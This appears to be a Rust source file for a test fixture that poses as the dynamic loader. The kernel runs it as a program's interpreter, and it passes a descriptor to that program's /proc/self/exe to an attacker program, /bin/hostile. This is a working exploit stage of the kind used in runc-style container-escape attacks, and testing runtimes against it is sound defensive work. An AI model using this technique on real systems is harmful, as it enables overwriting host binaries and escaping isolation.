//! Pretends to be the dynamic loader: the kernel starts it in place of whatever program asks for a loader, and with that program as
//! its `/proc/self/exe`. Hands a descriptor of it on to a program of the attacker's.

#![no_std]
#![no_main]

use core::arch::asm;

#[panic_handler]
fn panic(_: &core::panic::PanicInfo) -> ! {
    loop {}
}

unsafe fn call(number: usize, a: usize, b: usize, c: usize) -> isize {
    let result: isize;
    unsafe {
        asm!("syscall", inlateout("rax") number as isize => result, in("rdi") a, in("rsi") b, in("rdx") c,
            lateout("rcx") _, lateout("r11") _);
    }
    result
}

#[unsafe(no_mangle)]
pub extern "C" fn _start() -> ! {
    unsafe {
        let exe = call(2, c"/proc/self/exe".as_ptr() as usize, 0, 0);
        call(33, exe as usize, 9, 0);
        let arguments = [c"hostile".as_ptr() as usize, c"write-fd".as_ptr() as usize, c"9".as_ptr() as usize, 0];
        let environment = [0_usize];
        call(59, c"/bin/hostile".as_ptr() as usize, arguments.as_ptr() as usize, environment.as_ptr() as usize);
        call(231, 99, 0, 0);
    }
    loop {}
}
